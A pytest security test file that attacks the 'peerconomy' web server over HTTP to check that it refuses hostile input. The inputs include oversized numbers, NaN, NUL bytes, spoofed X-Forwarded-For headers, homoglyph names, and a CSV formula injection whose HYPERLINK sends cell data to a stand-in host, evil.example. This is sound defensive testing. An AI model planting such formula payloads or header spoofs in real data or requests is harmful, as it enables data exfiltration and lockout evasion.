"""Issue 17's attacks, run from outside against ``peerconomy serve`` on SQLite and PostgreSQL
(the ``site`` fixture): only HTTP requests, as an attacker or a curious new user would send
them. Each test asserts what the server answers and, where the attack tried to store
something, reads back over HTTP that nothing was stored.

The site (see ``outsider.py``): the private pools ``farm`` and ``books`` imported from
examples/farm.json, their member ``ana`` claimed by the operator-made account ``coord`` and
``ben`` by the account ``benny``; every other member unclaimed. ``newcomer`` signed up first.
"""

from __future__ import annotations

import csv
import io
import json
import re
import statistics
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import httpx2
import pytest
from outsider import BOOKS, PASSWORD, POOL, Site, environment, read_back, serve

API = "/api/v1"
FARM_PAGES = (f"/pools/{POOL}", f"/pools/{POOL}/period", f"/pools/{POOL}/goods",
              f"/pools/{POOL}/tasks", f"/pools/{POOL}/ledger", f"/pools/{POOL}/projects")
FARM_API = ("", "/members", "/me", "/period", "/offers", "/wishes", "/ledger/balances",
            "/projects", "/goods", "/tasks", "/hints")
OTHER_MEMBERS = ("chiara", "emil", "fatima", "greta", "hugo")
"""Members of the farm whose ids appear nowhere else: none may show in an outsider's answer."""


@contextmanager
def sign_in_page(site: Site, login: str, address: str, password: str = PASSWORD
                 ) -> Iterator[tuple[httpx2.Client, httpx2.Response]]:
    """A browser's sign-in on the page (its CSRF token read from the form): the client with
    its session cookie, and the answer."""
    with site.client(address) as client:
        form = client.get("/signin")
        token = re.search(r'name="csrf_token" value="([^"]+)"', form.text)
        assert token is not None, form.text
        answer = client.post("/signin", data={"login": login, "password": password,
                                              "csrf_token": token.group(1)})
        yield client, answer


def signed_up_with_token(site: Site, name: str, address: str) -> str:
    """Sign ``name`` up over the API and get its token; the token."""
    made = site.sign_up(name, address)
    assert made.status_code == 201, made.text
    issued = site.token(name, address)
    assert issued.status_code == 201, issued.text
    token: str = issued.json()["token"]
    return token


def assert_nothing_of_the_farm(answer: httpx2.Response) -> None:
    assert answer.status_code == 404, (answer.request.url, answer.status_code)
    for member in OTHER_MEMBERS:
        assert member not in answer.text


def farm_state(site: Site, pool: str = POOL) -> dict[str, Any]:
    """What the coordinator reads of the pool: settings, members, projects, goods, tasks,
    offers and wishes (the wishes and offers of every member, asked for as coordinator)."""
    with site.api("coord") as coord:
        return read_back(coord, *(f"{API}/pools/{pool}{path}" for path in
                                  ("", "/members", "/projects", "/goods", "/tasks",
                                   "/offers", "/wishes", "/period")))


@pytest.fixture
def unchanged(site: Site) -> Iterator[None]:
    """The farm as the coordinator reads it is the same after the test as before it."""
    before = farm_state(site)
    yield
    assert farm_state(site) == before


# --- membership is claimed, never matched by name ------------------------------------------


@pytest.mark.parametrize("member", ["ana", "dario"])
def test_signing_up_with_a_members_id_gives_no_access_to_the_pool(
    site: Site, member: str
) -> None:
    """ana is the farm's coordinator (claimed by coord), dario an unclaimed member: an
    account named like either is nobody in the farm, on the API and the pages."""
    token = signed_up_with_token(site, member, "203.0.113.2")
    with site.client("203.0.113.2", token) as api:
        for path in FARM_API:
            assert_nothing_of_the_farm(api.get(f"{API}/pools/{POOL}{path}"))
        listed = api.get(f"{API}/pools")
        assert listed.status_code == 200
        assert POOL not in [p["name"] for p in listed.json()]
    with sign_in_page(site, member, "203.0.113.2") as (browser, signed_in):
        assert signed_in.status_code == 303
        for page in FARM_PAGES:
            assert_nothing_of_the_farm(browser.get(page))


def test_the_first_account_to_sign_up_is_not_an_admin(site: Site) -> None:
    with site.api(site.first_signup) as first:
        me = first.get(f"{API}/me")
        assert me.status_code == 200
        assert me.json()["site_admin"] is False
        assert [p["name"] for p in first.get(f"{API}/pools").json()] == []
        assert_nothing_of_the_farm(first.get(f"{API}/pools/{POOL}/members"))


def test_a_private_pool_is_not_found_by_an_outsider_asking_to_join(site: Site) -> None:
    with site.api(site.first_signup) as outsider:
        asked = outsider.post(f"{API}/pools/{POOL}/join")
        unknown = outsider.post(f"{API}/pools/no-such-pool/join")
    assert (asked.status_code, unknown.status_code) == (404, 404)
    with site.api("coord") as coord:
        assert coord.get(f"{API}/pools/{POOL}/requests").json() == []


# --- bounded demand and finite numbers ----------------------------------------------------


def test_600_wishes_of_a_huge_quantity_of_a_flat_rate_good_are_refused_and_shares_stay_sane(
    site: Site
) -> None:
    """The issue's attack on the demo, on the farm's flat-rate vegetable_share (limit 1):
    600 wishes of 100,000 shares each are refused, none stored. Wishes of one share each
    are taken (each could be met), but the plan gives ben one share at most, and no share
    reaches ten times the pool's median capacity."""
    wish = {"alternatives": [{"good": "vegetable_share"}]}
    wishes = f"{API}/pools/{BOOKS}/wishes"
    with site.api("benny") as ben:
        before = ben.get(wishes).json()
        huge = [ben.post(wishes, json={**wish, "quantity": 100_000}) for _ in range(600)]
        assert {answer.status_code for answer in huge} == {422}
        assert "quantity" in huge[0].text
        assert ben.get(wishes).json() == before
        many = [ben.post(wishes, json={**wish, "quantity": 1}).status_code
                for _ in range(100)]
    assert set(many) <= {201, 422}, sorted(set(many))
    with site.api("coord") as coord:
        preview = coord.get(f"{API}/pools/{BOOKS}/period/preview")
        assert preview.status_code == 200
        assert preview.json()["warnings"] == []
        cleared = coord.post(f"{API}/pools/{BOOKS}/period/clear")
        assert cleared.status_code == 200, cleared.text
        plan = coord.get(f"{API}/pools/{BOOKS}/periods/1/plan").json()
        members = coord.get(f"{API}/pools/{BOOKS}/members").json()
    shares = sum(a["quantity"] for a in plan["allocations"]
                 if a["participant"] == "ben" and a["good"] == "vegetable_share")
    assert shares <= 1
    median = statistics.median(m["capacity"] for m in members if m["capacity"] is not None)
    assert all(0 <= share <= 10 * median for share in plan["shares"].values()), plan["shares"]


@pytest.mark.parametrize("fixed_hours", ["1e308", "NaN", "Infinity", "-Infinity", "1e400"])
def test_a_task_with_fixed_hours_beyond_any_bound_is_refused_and_not_stored(
    site: Site, fixed_hours: str, unchanged: None
) -> None:
    body = ('{"id": "mill", "tasks": [{"id": "grind", "project": "mill", "fixed_hours": '
            + fixed_hours + '}]}')
    with site.api("coord") as coord:
        answer = coord.post(f"{API}/pools/{POOL}/projects", content=body,
                            headers={"Content-Type": "application/json"})
    assert answer.status_code == 422, answer.text
    assert "fixed_hours" in answer.text or "body" in answer.text


BIG = [1e308, 10**30, -1e308]


def number_attacks() -> list[tuple[str, str, str, dict[str, Any]]]:
    """(who, method, path, body) for each place a number is taken, with ``{n}`` where the
    number goes."""
    alt = {"good": "hill_bread"}
    return [
        ("benny", "PUT", f"/pools/{POOL}/offers/harvest", {"hours": "{n}"}),
        ("benny", "PUT", f"/pools/{POOL}/offers/harvest", {"hours": 2, "min_weight": "{n}"}),
        ("benny", "POST", f"/pools/{POOL}/wishes", {"alternatives": [alt], "quantity": "{n}"}),
        ("benny", "POST", f"/pools/{POOL}/wishes",
         {"alternatives": [{"good": "hill_bread", "max_cost": "{n}"}]}),
        ("coord", "PATCH", f"/pools/{POOL}", {"max_weight": "{n}"}),
        ("coord", "PATCH", f"/pools/{POOL}/members/ben", {"capacity": "{n}"}),
        ("coord", "POST", f"/pools/{POOL}/members", {"id": "ivo", "capacity": "{n}"}),
        ("coord", "PATCH", f"/pools/{POOL}/goods/hill_bread", {"capacity": "{n}"}),
        ("coord", "POST", f"/pools/{POOL}/projects",
         {"id": "mill", "goods": [{"id": "flour", "project": "mill", "model": "effort",
                                   "capacity": "{n}", "limit": 2}]}),
        ("coord", "POST", f"/pools/{POOL}/projects",
         {"id": "mill", "goods": [{"id": "flour", "project": "mill", "model": "effort",
                                   "limit": "{n}"}]}),
        ("coord", "POST", f"/pools/{POOL}/invitations", {"days": "{n}"}),
        ("coord", "POST", "/me/tokens", {"days": "{n}"}),
        ("benny", "PUT", f"/pools/{POOL}/offers/harvest", {"hours": 2, "period": "{n}"}),
        ("coord", "PATCH", f"/pools/{POOL}", {"public": False, "version": "{n}"}),
    ]


def with_number(body: Any, number: float | int) -> Any:
    if body == "{n}":
        return number
    if isinstance(body, dict):
        return {k: with_number(v, number) for k, v in body.items()}
    if isinstance(body, list):
        return [with_number(v, number) for v in body]
    return body


@pytest.mark.parametrize("number", BIG, ids=["1e308", "10**30", "-1e308"])
@pytest.mark.parametrize(("who", "method", "path", "body"), number_attacks(),
                         ids=lambda x: x if isinstance(x, str) else "")
def test_a_number_beyond_its_bound_is_refused_wherever_a_number_is_taken(
    site: Site, who: str, method: str, path: str, body: dict[str, Any],
    number: float, unchanged: None
) -> None:
    with site.api(who) as client:
        answer = client.request(method, API + path, json=with_number(body, number))
    assert answer.status_code == 422, (path, answer.text)


PAGE_NUMBERS = ["1e308", "nan", "inf", "-inf", str(10**30), "1" * 5000]


@pytest.mark.parametrize("number", PAGE_NUMBERS, ids=["1e308", "nan", "inf", "-inf",
                                                      "10**30", "5000 digits"])
def test_a_number_beyond_its_bound_in_a_page_form_is_refused(
    site: Site, number: str, unchanged: None
) -> None:
    """ben, signed in on the pages, offers hours and wishes for quantities beyond bounds."""
    with sign_in_page(site, "benny", "198.51.100.4") as (browser, signed_in):
        assert signed_in.status_code == 303
        form = browser.get(f"/pools/{POOL}/goods")
        token = re.search(r'name="csrf_token" value="([^"]+)"', form.text)
        assert token is not None
        csrf = token.group(1)
        offer = browser.post(f"/pools/{POOL}/offers/harvest",
                             data={"hours": number, "min_weight": "1", "csrf_token": csrf})
        weight = browser.post(f"/pools/{POOL}/offers/harvest",
                              data={"hours": "2", "min_weight": number, "csrf_token": csrf})
        wish = browser.post(f"/pools/{POOL}/wishes",
                            data={"alternative": "good:hill_bread", "quantity": number,
                                  "csrf_token": csrf})
    assert [offer.status_code, weight.status_code, wish.status_code] == [422] * 3


# --- hostile bytes ------------------------------------------------------------------------


HOSTILE_NUMBERS = {"NaN": "NaN", "Infinity": "Infinity", "-Infinity": "-Infinity"}
HOSTILE_TEXT = {"lone surrogate": ("surrogate", '"ben\\ud800"'), "NUL": ("nul", '"ben\\u0000"')}
"""Each attack's account name (never made) and its JSON string."""


@pytest.mark.parametrize("number", HOSTILE_NUMBERS.values(), ids=HOSTILE_NUMBERS.keys())
def test_nan_or_infinity_in_a_json_body_is_refused_and_not_stored(
    site: Site, number: str, unchanged: None
) -> None:
    headers = {"Content-Type": "application/json"}
    with site.api("benny") as ben:
        hours = ben.put(f"{API}/pools/{POOL}/offers/harvest",
                        content=f'{{"hours": {number}}}', headers=headers)
        weight = ben.put(f"{API}/pools/{POOL}/offers/weeding",
                         content=f'{{"hours": 2, "min_weight": {number}}}', headers=headers)
        cost = ben.post(f"{API}/pools/{POOL}/wishes", headers=headers, content=(
            f'{{"alternatives": [{{"good": "hill_bread", "max_cost": {number}}}]}}'))
    assert (hours.status_code, weight.status_code, cost.status_code) == (422, 422, 422)


@pytest.mark.parametrize(("name", "text"), HOSTILE_TEXT.values(), ids=HOSTILE_TEXT.keys())
def test_a_lone_surrogate_or_nul_in_a_json_string_is_refused_and_not_stored(
    site: Site, name: str, text: str, unchanged: None
) -> None:
    headers = {"Content-Type": "application/json"}
    with site.api("benny") as ben:
        offer = ben.put(f"{API}/pools/{POOL}/offers/harvest", headers=headers,
                        content=f'{{"hours": 2, "participant": {text}}}')
        profile = ben.patch(f"{API}/me", headers=headers,
                            content=f'{{"display_name": {text}}}')
        assert ben.get(f"{API}/me").json()["display_name"] == ""
    with site.client("203.0.113.3") as anonymous:
        signup = anonymous.post(f"{API}/auth/signup", headers=headers, content=(
            f'{{"name": "{name}", "email": "{name}@example.org", "password": "{PASSWORD}",'
            f' "display_name": {text}}}'))
    assert (offer.status_code, profile.status_code, signup.status_code) == (422, 422, 422)
    assert text.strip('"') not in signup.text
    assert site.token(name, "203.0.113.3").status_code == 401  # no such account was made


BIG_ID = "9" * 20


@pytest.mark.parametrize("path", [
    f"{API}/pools/{POOL}/periods/{BIG_ID}/plan",
    f"{API}/pools/{POOL}/periods/-{BIG_ID}/plan",
    f"{API}/pools/{POOL}/work/{BIG_ID}/confirm",
    f"{API}/pools/{POOL}/ledger/statement?period={BIG_ID}",
    f"{API}/pools/{POOL}/ledger/statement?period=-{BIG_ID}",
    f"{API}/pools/{POOL}/audit?before={BIG_ID}",
    f"/pools/{POOL}/work/{BIG_ID}/confirm",
])
def test_a_twenty_digit_number_in_a_path_or_query_is_4xx_never_5xx(
    site: Site, path: str, unchanged: None
) -> None:
    with site.api("coord") as coord:
        answer = coord.post(path) if path.endswith("confirm") else coord.get(path)
    assert 400 <= answer.status_code < 500, (path, answer.status_code, answer.text)


def test_a_nul_in_the_login_is_refused_before_any_account_is_looked_up(site: Site) -> None:
    """``ben\\x00`` signing in anonymously (the page's form and the API's token route)."""
    with sign_in_page(site, "ben\x00", "203.0.113.4") as (browser, signed_in):
        assert 400 <= signed_in.status_code < 500
        assert browser.get("/account").status_code == 303  # signed in as nobody
    with site.client("203.0.113.4") as anonymous:
        token = anonymous.post(f"{API}/auth/tokens",
                               json={"login": "ben\x00", "password": PASSWORD})
    assert 400 <= token.status_code < 500


# --- sign-in cannot be used against its owner ----------------------------------------------


def test_wrong_passwords_from_one_address_do_not_lock_the_owner_out_from_another(
    site: Site
) -> None:
    signed_up_with_token(site, "owner", "198.51.100.1")
    with site.client("203.0.113.66") as client:
        attacker = [client.post(f"{API}/auth/tokens",
                                json={"login": "owner", "password": "wrong password"})
                    for _ in range(6)]
    assert [a.status_code for a in attacker[:5]] == [401] * 5
    assert attacker[5].status_code == 429
    assert "Retry-After" in attacker[5].headers
    assert site.token("owner", "203.0.113.66").status_code == 429
    assert site.token("owner", "198.51.100.1").status_code == 201


def test_forwarded_for_is_ignored_unless_the_proxy_is_trusted(
    site: Site, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """A second server on the same database, without ``PEERCONOMY_TRUSTED_PROXIES``: a
    caller naming a new address in each request is still one address, and locked as one."""
    signed_up_with_token(site, "victim", "198.51.100.2")
    env = environment(site.env["PEERCONOMY_DATABASE_URL"], tmp_path_factory.mktemp("plain"))
    with serve(env) as url, httpx2.Client(base_url=url, timeout=60) as client:
        tries = [client.post(f"{API}/auth/tokens",
                             headers={"X-Forwarded-For": f"203.0.113.{100 + n}"},
                             json={"login": "victim", "password": "wrong password"})
                 for n in range(6)]
        assert tries[-1].status_code == 429
        again = client.post(f"{API}/auth/tokens", headers={"X-Forwarded-For": "198.51.100.2"},
                            json={"login": "victim", "password": PASSWORD})
        assert again.status_code == 429


# --- tokens stay on the API ---------------------------------------------------------------


def test_a_bearer_token_does_not_open_the_account_page(site: Site) -> None:
    with site.api("benny") as ben:
        page = ben.get("/account")
        assert page.status_code == 303
        assert page.headers["Location"].startswith("/signin")
        assert "benny@example.org" not in page.text
        assert ben.get(f"{API}/me").status_code == 200


def test_a_read_scoped_token_changes_nothing(site: Site, unchanged: None) -> None:
    issued = site.token("benny", scope="read")
    assert issued.status_code == 201
    with site.client(token=issued.json()["token"]) as reader:
        assert reader.get(f"{API}/pools/{POOL}/offers").status_code == 200
        changes = [
            reader.put(f"{API}/pools/{POOL}/offers/harvest", json={"hours": 3}),
            reader.post(f"{API}/pools/{POOL}/wishes",
                        json={"alternatives": [{"good": "hill_bread"}]}),
            reader.patch(f"{API}/me", json={"display_name": "Mallory"}),
            reader.post(f"{API}/pools", json={"name": "readers-pool"}),
        ]
        assert [c.status_code for c in changes] == [403] * 4
        assert reader.get(f"{API}/me").json()["display_name"] != "Mallory"
        assert "readers-pool" not in reader.get(f"{API}/pools").text


def test_a_token_cannot_mint_tokens(site: Site) -> None:
    with site.api("benny") as ben:
        before = ben.get(f"{API}/me/tokens").json()
        minted = ben.post(f"{API}/me/tokens", json={"label": "forever", "days": 365})
        assert minted.status_code == 403
        assert ben.get(f"{API}/me/tokens").json() == before


# --- leaks --------------------------------------------------------------------------------


def test_answers_to_a_signed_in_caller_are_not_cached(site: Site) -> None:
    with site.api("benny") as ben:
        for path in (f"{API}/me", f"{API}/pools/{POOL}/me", f"{API}/me/tokens"):
            assert "no-store" in ben.get(path).headers.get("Cache-Control", ""), path
    issued = site.token("benny")
    assert "no-store" in issued.headers.get("Cache-Control", "")
    with sign_in_page(site, "benny", "198.51.100.3") as (browser, _):
        assert "no-store" in browser.get("/account").headers.get("Cache-Control", "")


def test_the_api_docs_reference_no_other_origin(site: Site) -> None:
    with site.client() as anonymous:
        docs = anonymous.get("/api/docs")
        assert docs.status_code == 200
        referenced = re.findall(r'(?:src|href)\s*=\s*"([^"]+)"', docs.text)
        assert referenced
        for address in referenced:
            assert not re.match(r"^(?:[a-z][a-z0-9+.-]*:)?//", address, re.IGNORECASE), address
            assert anonymous.get(address).status_code == 200, address
        policy = docs.headers.get("Content-Security-Policy", "")
        assert "script-src 'self'" in policy


# --- the pool's books and its coordinators ------------------------------------------------


@pytest.fixture(scope="module")
def cleared_books(site: Site) -> Site:
    """The books pool's first period cleared (the demand test may have done it)."""
    with site.api("coord") as coord:
        if coord.get(f"{API}/pools/{BOOKS}/period").json()["state"] == "collecting":
            assert coord.post(f"{API}/pools/{BOOKS}/period/clear").status_code == 200
    return site


def test_a_coordinator_cannot_confirm_work_she_logged_for_someone_else(
    cleared_books: Site
) -> None:
    site = cleared_books
    with site.api("coord") as coord:
        logged = coord.post(f"{API}/pools/{BOOKS}/work",
                            json={"task": "harvest", "hours": 2, "participant": "ben"})
        assert logged.status_code == 201, logged.text
        log_id = logged.json()["id"]
        confirmed = coord.post(f"{API}/pools/{BOOKS}/work/{log_id}/confirm")
        assert confirmed.status_code in (403, 409), confirmed.text
        mine = [w for w in coord.get(f"{API}/pools/{BOOKS}/work").json() if w["id"] == log_id]
    assert mine and mine[0]["status"] != "confirmed"


@pytest.mark.parametrize("hours", ["1e308", "NaN", "Infinity", str(10**30)])
def test_logged_hours_beyond_any_bound_are_refused_and_not_stored(
    cleared_books: Site, hours: str
) -> None:
    site = cleared_books
    work = f"{API}/pools/{BOOKS}/work"
    with site.api("benny") as ben:
        before = ben.get(work).json()
        logged = ben.post(work, content=f'{{"task": "harvest", "hours": {hours}}}',
                          headers={"Content-Type": "application/json"})
        assert logged.status_code == 422, logged.text
        assert ben.get(work).json() == before


def test_the_csv_export_writes_a_formula_as_text(cleared_books: Site) -> None:
    """A coordinator's correction whose reason is a spreadsheet formula: the exported cell
    is that reason after a ``'``, so a spreadsheet shows it as text."""
    site = cleared_books
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with site.api("coord") as coord:
        settled = coord.post(f"{API}/pools/{BOOKS}/period/settle")
        assert settled.status_code == 200, settled.text
        entries = json.loads(coord.get(f"{API}/pools/{BOOKS}/ledger/export",
                                       params={"format": "json"}).text)
        corrected = coord.post(
            f"{API}/pools/{BOOKS}/ledger/transactions/{entries[0]['id']}/correct",
            json={"reason": formula})
        assert corrected.status_code == 200, corrected.text
        exported = coord.get(f"{API}/pools/{BOOKS}/ledger/export", params={"format": "csv"})
    assert exported.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(exported.text)) for cell in row]
    assert "'" + formula in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]


def test_the_last_coordinator_can_neither_step_down_nor_leave(
    site: Site, unchanged: None
) -> None:
    with site.api("coord") as coord:
        demoted = coord.patch(f"{API}/pools/{POOL}/members/ana", json={"role": "member"})
        removed = coord.delete(f"{API}/pools/{POOL}/members/ana")
    assert (demoted.status_code, removed.status_code) == (409, 409)


@pytest.mark.parametrize("name", ["Demo", "DEMO", "\uff44\uff45\uff4d\uff4f", "\uff24emo"])
def test_a_pool_name_that_looks_like_a_taken_one_is_refused(site: Site, name: str) -> None:
    with site.api("benny") as ben:
        if "demo" not in [p["name"] for p in ben.get(f"{API}/pools").json()]:
            assert ben.post(f"{API}/pools", json={"name": "demo"}).status_code == 201
        before = ben.get(f"{API}/pools").json()
        taken = ben.post(f"{API}/pools", json={"name": name})
        assert taken.status_code in (409, 422), taken.text
        assert ben.get(f"{API}/pools").json() == before


@pytest.mark.parametrize("name", ["Dario", "\uff44ario", "dar\u0131o", "da\u0280io"])
def test_a_user_name_that_looks_like_a_member_id_is_refused(site: Site, name: str) -> None:
    answer = site.sign_up(name, "203.0.113.5")
    assert answer.status_code in (409, 422), answer.text
